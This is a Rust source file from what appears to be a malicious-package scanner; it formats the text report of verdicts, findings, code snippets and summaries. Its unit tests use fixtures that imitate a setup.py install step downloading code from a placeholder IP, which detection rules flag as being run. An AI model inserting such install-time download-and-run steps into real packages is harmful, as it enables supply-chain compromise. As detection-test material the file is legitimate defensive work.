//! The human report. Per flagged package: a verdict line, the story (what it would do,
//! when, to what), why it got its verdict, then its findings worst first, grouped by the
//! code line they point at, so a line that five rules see is shown once. A summary ends
//! the report. Every byte that came from a package passes through [`escape::terminal`].

use super::escape::terminal;
use super::story::story;
use super::summary::Summary;
use crate::finding::{Finding, Severity};
use crate::scan::PackageReport;
use crate::verdict::{self, Verdict};
use std::fmt::Write;

/// What to show and how.
#[derive(Debug, Clone, Copy, Default)]
pub struct TextOptions {
    /// Clean packages, low and info findings, and analysis notes too.
    pub verbose: bool,
    /// Flagged packages only, no summary.
    pub quiet: bool,
    /// ANSI colours (a terminal without `NO_COLOR`).
    pub colour: bool,
}

/// The order packages are reported in: malicious, suspicious, could not be scanned,
/// clean; then by score, worst first; then by path.
pub fn sort(packages: &mut [PackageReport]) {
    packages.sort_by(order);
}

/// The order of [`sort`] between two packages (the HTML page's default order too).
pub(crate) fn order(a: &PackageReport, b: &PackageReport) -> std::cmp::Ordering {
    (verdict_rank(a.verdict), std::cmp::Reverse(a.score), &a.path).cmp(&(
        verdict_rank(b.verdict),
        std::cmp::Reverse(b.score),
        &b.path,
    ))
}

fn verdict_rank(v: Verdict) -> u8 {
    match v {
        Verdict::Malicious => 0,
        Verdict::Suspicious => 1,
        Verdict::Error => 2,
        Verdict::Clean => 3,
    }
}

/// Whether a package is printed: flagged ones always; with `quiet` nothing else; by
/// default also those that could not be scanned fully; with `verbose` every one.
pub fn shown(p: &PackageReport, o: &TextOptions) -> bool {
    match p.verdict {
        Verdict::Malicious | Verdict::Suspicious => true,
        _ if o.quiet => false,
        Verdict::Error => true,
        Verdict::Clean => o.verbose || !p.errors.is_empty(),
    }
}

/// ANSI styles, or nothing without colour.
struct Paint(bool);

impl Paint {
    fn wrap(&self, code: &str, text: &str) -> String {
        if self.0 {
            format!("\x1b[{code}m{text}\x1b[0m")
        } else {
            text.to_string()
        }
    }
    fn verdict(&self, v: Verdict) -> String {
        let label = format!("{:<10}", v.as_str().to_uppercase());
        let code = match v {
            Verdict::Malicious => "1;31",
            Verdict::Suspicious => "1;33",
            Verdict::Error => "1;35",
            Verdict::Clean => "32",
        };
        self.wrap(code, &label)
    }
    fn severity(&self, s: Severity) -> String {
        let label = format!("{:<8}", s.as_str());
        let code = match s {
            Severity::Critical => "1;31",
            Severity::High => "31",
            Severity::Medium => "33",
            Severity::Low | Severity::Info => "2",
        };
        self.wrap(code, &label)
    }
    fn dim(&self, text: &str) -> String {
        self.wrap("2", text)
    }
    fn bold(&self, text: &str) -> String {
        self.wrap("1", text)
    }
}

/// One package's block; empty when [`shown`] says it is not printed.
pub fn render_package(p: &PackageReport, o: &TextOptions) -> String {
    let mut out = String::new();
    if !shown(p, o) {
        return out;
    }
    let paint = Paint(o.colour);
    let version = p
        .version
        .as_deref()
        .map(|v| format!(" {}", terminal(v)))
        .unwrap_or_default();
    // A result that is not complete says so where it cannot be missed.
    let partial = if p.errors.is_empty() || p.verdict == Verdict::Error {
        String::new()
    } else {
        paint.wrap(
            "1;35",
            &format!(
                "  [partial: {} part(s) not analysed fully, see errors]",
                p.errors.len()
            ),
        )
    };
    let score = if p.verdict == Verdict::Error {
        String::new()
    } else {
        format!("  score {}", p.score)
    };
    let _ = writeln!(
        out,
        "{} {}{} ({}){score}  {}{partial}",
        paint.verdict(p.verdict),
        paint.bold(&terminal(&p.name)),
        version,
        p.ecosystem.as_str(),
        terminal(&p.path),
    );
    for line in story(&p.findings) {
        let _ = writeln!(out, "  {}", paint.bold(&terminal(&line)));
    }
    if let Some((f, why)) = verdict::reason(&p.findings) {
        let at = location(f).map(|l| format!(" at {l}")).unwrap_or_default();
        let _ = writeln!(
            out,
            "  {}",
            paint.dim(&format!(
                "why {}: `{}`{} ({}, {} confidence): {why}",
                p.verdict.as_str(),
                f.rule,
                terminal(&at),
                f.severity.as_str(),
                f.confidence.as_str()
            ))
        );
    }
    for e in &p.errors {
        let _ = writeln!(out, "  error: {}", terminal(e));
    }
    let visible: Vec<&Finding> = p
        .findings
        .iter()
        .filter(|f| o.verbose || f.severity >= Severity::Medium || p.verdict != Verdict::Clean)
        .collect();
    for group in by_location(&visible) {
        render_location(&mut out, &group, &p.name, &paint);
    }
    if !p.suppressed.is_empty() {
        let _ = writeln!(
            out,
            "  {}",
            paint.dim(&format!(
                "{} finding(s) suppressed{}",
                p.suppressed.len(),
                if o.verbose { ":" } else { " (-v lists them)" }
            ))
        );
        if o.verbose {
            for s in &p.suppressed {
                let f = &s.finding;
                let _ = writeln!(
                    out,
                    "    {} {} {}: {}",
                    f.rule,
                    terminal(&location(f).unwrap_or_default()),
                    crate::finding::Finding::id(&f.fingerprint(&p.name)),
                    terminal(&s.reason)
                );
            }
        }
    }
    if o.verbose {
        for n in &p.notes {
            let _ = writeln!(out, "  note: {}", terminal(n));
        }
    }
    out
}

/// `file:line`, `file` for a finding about a whole file (line 0), `None` for one about
/// the package.
fn location(f: &Finding) -> Option<String> {
    match (f.file.is_empty(), f.line) {
        (true, _) => None,
        (false, 0) => Some(f.file.clone()),
        (false, line) => Some(format!("{}:{line}", f.file)),
    }
}

/// Findings grouped by (file, line), each group worst first, groups ordered by their
/// worst finding.
fn by_location<'a>(findings: &[&'a Finding]) -> Vec<Vec<&'a Finding>> {
    let mut sorted: Vec<&Finding> = findings.to_vec();
    sorted.sort_by(|a, b| a.rank_key().cmp(&b.rank_key()));
    let mut groups: Vec<Vec<&Finding>> = Vec::new();
    for f in sorted {
        match groups
            .iter_mut()
            .find(|g| g[0].file == f.file && g[0].line == f.line)
        {
            Some(g) => g.push(f),
            None => groups.push(vec![f]),
        }
    }
    groups
}

/// Code lines longer than this are cut around the marked part.
const CODE_WIDTH: usize = 140;

/// One code location: `file:line`, the code line with the part the findings name marked,
/// then each finding (one line per rule; repeats of a rule on the line are counted).
fn render_location(out: &mut String, group: &[&Finding], package: &str, paint: &Paint) {
    let first = group[0];
    let at = location(first).unwrap_or_else(|| "(package)".to_string());
    let _ = writeln!(out, "  {}", paint.bold(&terminal(&at)));
    if !first.snippet.is_empty() {
        let (code, mark) = marked_code(first, group);
        match mark {
            Some((start, end)) if paint.0 => {
                let _ = writeln!(
                    out,
                    "      │ {}{}{}",
                    terminal(&code[..start]),
                    paint.wrap("1;4;31", &terminal(&code[start..end])),
                    terminal(&code[end..])
                );
            }
            Some((start, end)) => {
                let before = terminal(&code[..start]).chars().count();
                let width = terminal(&code[start..end]).chars().count().max(1);
                let _ = writeln!(out, "      │ {}", terminal(&code));
                let _ = writeln!(out, "      │ {}{}", " ".repeat(before), "^".repeat(width));
            }
            None => {
                let _ = writeln!(out, "      │ {}", terminal(&code));
            }
        }
    }
    let mut seen: Vec<&str> = Vec::new();
    for f in group {
        if seen.contains(&f.rule) {
            continue;
        }
        seen.push(f.rule);
        let repeats = group.iter().filter(|g| g.rule == f.rule).count();
        let times = if repeats > 1 {
            format!(" (×{repeats})")
        } else {
            String::new()
        };
        let _ = writeln!(
            out,
            "    {} {}{}  {}",
            paint.severity(f.severity),
            paint.bold(f.rule),
            times,
            paint.dim(&format!(
                "{}, {} confidence, id {}",
                super::story::phase_label(f.phase),
                f.confidence.as_str(),
                Finding::id(&f.fingerprint(package))
            )),
        );
        let _ = writeln!(out, "        {}", terminal(&f.message));
    }
}

/// The code line (trimmed, cut to [`CODE_WIDTH`] around the mark) and the byte range of
/// the part the findings name: the longest `quoted` object of their messages, or of its
/// last dotted part (`request` of `https.request`), that appears in the line.
pub(crate) fn marked_code(first: &Finding, group: &[&Finding]) -> (String, Option<(usize, usize)>) {
    let code = first.snippet.trim();
    let mut best: Option<(usize, usize)> = None;
    for f in group {
        for quoted in quoted_parts(&f.message) {
            // `https.request` is written `https.request(` or `req.request(`: its last
            // part is marked. Paths and URLs are only marked whole.
            let is_api = !quoted.contains(['/', '~', '\\', ' ']);
            let tail = if is_api {
                quoted.rsplit('.').next().unwrap_or(quoted)
            } else {
                quoted
            };
            for needle in [quoted, tail] {
                if needle.len() < 3 {
                    continue;
                }
                if let Some(start) = code.find(needle) {
                    let len = needle.len();
                    if best.is_none_or(|(s, e)| e - s < len) {
                        best = Some((start, start + len));
                    }
                    break;
                }
            }
        }
    }
    if code.len() <= CODE_WIDTH {
        return (code.to_string(), best);
    }
    // Cut a window around the mark, on character boundaries.
    let centre = best.map_or(0, |(s, _)| s);
    let mut from = centre.saturating_sub(CODE_WIDTH / 3);
    while !code.is_char_boundary(from) {
        from -= 1;
    }
    let mut to = (from + CODE_WIDTH).min(code.len());
    while !code.is_char_boundary(to) {
        to -= 1;
    }
    let prefix = if from > 0 { "…" } else { "" };
    let suffix = if to < code.len() { "…" } else { "" };
    let window = format!("{prefix}{}{suffix}", &code[from..to]);
    let mark = best
        .filter(|&(s, e)| s >= from && e <= to)
        .map(|(s, e)| (s - from + prefix.len(), e - from + prefix.len()));
    (window, mark)
}

/// Every `quoted` part of a message.
fn quoted_parts(message: &str) -> impl Iterator<Item = &str> {
    message.split('`').skip(1).step_by(2)
}

/// The summary at the end: counts per verdict and ecosystem, partial results, top rules,
/// inputs that could not be read, elapsed time and rate.
pub fn render_summary(s: &Summary, o: &TextOptions) -> String {
    let paint = Paint(o.colour);
    let mut out = String::new();
    for e in &s.input_errors {
        let _ = writeln!(out, "error: {}", terminal(&e.to_string()));
    }
    let rate = if s.seconds > 0.0 {
        s.packages as f64 / s.seconds
    } else {
        0.0
    };
    let _ = writeln!(
        out,
        "{}",
        paint.bold(&format!(
            "{} packages: {} malicious, {} suspicious, {} clean, {} error ({:.2}s, {rate:.1} packages/s)",
            s.packages, s.malicious, s.suspicious, s.clean, s.error, s.seconds
        ))
    );
    if s.partial > 0 {
        let _ = writeln!(
            out,
            "  partial: {} package(s) not analysed fully (exit 2 unless one fails the gate)",
            s.partial
        );
    }
    if !s.skip_reasons.is_empty() {
        let parts: Vec<String> = s
            .skip_reasons
            .iter()
            .map(|r| terminal(&r.to_string()).into_owned())
            .collect();
        let _ = writeln!(out, "  skipped: {}", parts.join("; "));
    }
    if s.suppressed > 0 {
        let _ = writeln!(
            out,
            "  suppressed: {} finding(s) by the configuration or baseline",
            s.suppressed
        );
    }
    if s.stopped {
        let _ = writeln!(
            out,
            "  stopped early: the output was closed; {} of {} packages scanned",
            s.packages, s.total
        );
    }
    if s.by_ecosystem.len() > 1 {
        let parts: Vec<String> = s
            .by_ecosystem
            .iter()
            .map(|(eco, c)| {
                format!(
                    "{eco} {} ({} malicious, {} suspicious)",
                    c.packages, c.malicious, c.suspicious
                )
            })
            .collect();
        let _ = writeln!(out, "  by ecosystem: {}", parts.join(", "));
    }
    if !s.top_rules.is_empty() {
        let parts: Vec<String> = s
            .top_rules
            .iter()
            .map(|r| format!("{} {}", r.rule, r.packages))
            .collect();
        let _ = writeln!(out, "  top rules in flagged packages: {}", parts.join(", "));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::finding::{Category, Confidence, Phase};

    fn finding(rule: &'static str, severity: Severity, line: u32, message: &str) -> Finding {
        Finding {
            rule,
            category: Category::Download,
            severity,
            confidence: Confidence::High,
            phase: Phase::Install,
            file: "setup.py".into(),
            line,
            message: message.into(),
            snippet: "    urlretrieve(\"http://203.0.113.9/a\", p)".into(),
        }
    }

    #[test]
    fn one_line_many_rules_is_one_block_worst_first() {
        let a = finding(
            "suspicious-endpoint",
            Severity::High,
            3,
            "contacts `http://203.0.113.9/a`",
        );
        let b = finding(
            "exec-downloaded",
            Severity::Critical,
            3,
            "runs `http://203.0.113.9/a`",
        );
        let c = finding(
            "suspicious-endpoint",
            Severity::High,
            3,
            "contacts `http://203.0.113.9/a` with `urlretrieve`",
        );
        let mut out = String::new();
        render_location(
            &mut out,
            &by_location(&[&a, &b, &c])[0],
            "pkg",
            &Paint(false),
        );
        assert_eq!(out.matches("urlretrieve(\"http").count(), 1, "{out}");
        assert!(out.find("exec-downloaded").unwrap() < out.find("suspicious-endpoint").unwrap());
        assert!(out.contains("suspicious-endpoint (×2)"), "{out}");
        // The URL is marked under the code line.
        let caret = out.lines().find(|l| l.contains('^')).unwrap();
        assert_eq!(
            caret.matches('^').count(),
            "http://203.0.113.9/a".len(),
            "{out}"
        );
    }

    #[test]
    fn long_lines_are_cut_around_the_mark() {
        let mut f = finding("x", Severity::High, 1, "contacts `http://203.0.113.9/z`");
        f.snippet = format!(
            "{}fetch('http://203.0.113.9/z'){}",
            "a;".repeat(400),
            "b;".repeat(400)
        );
        let (code, mark) = marked_code(&f, &[&f]);
        assert!(code.chars().count() <= CODE_WIDTH + 2);
        let (s, e) = mark.unwrap();
        assert_eq!(&code[s..e], "http://203.0.113.9/z");
    }
}
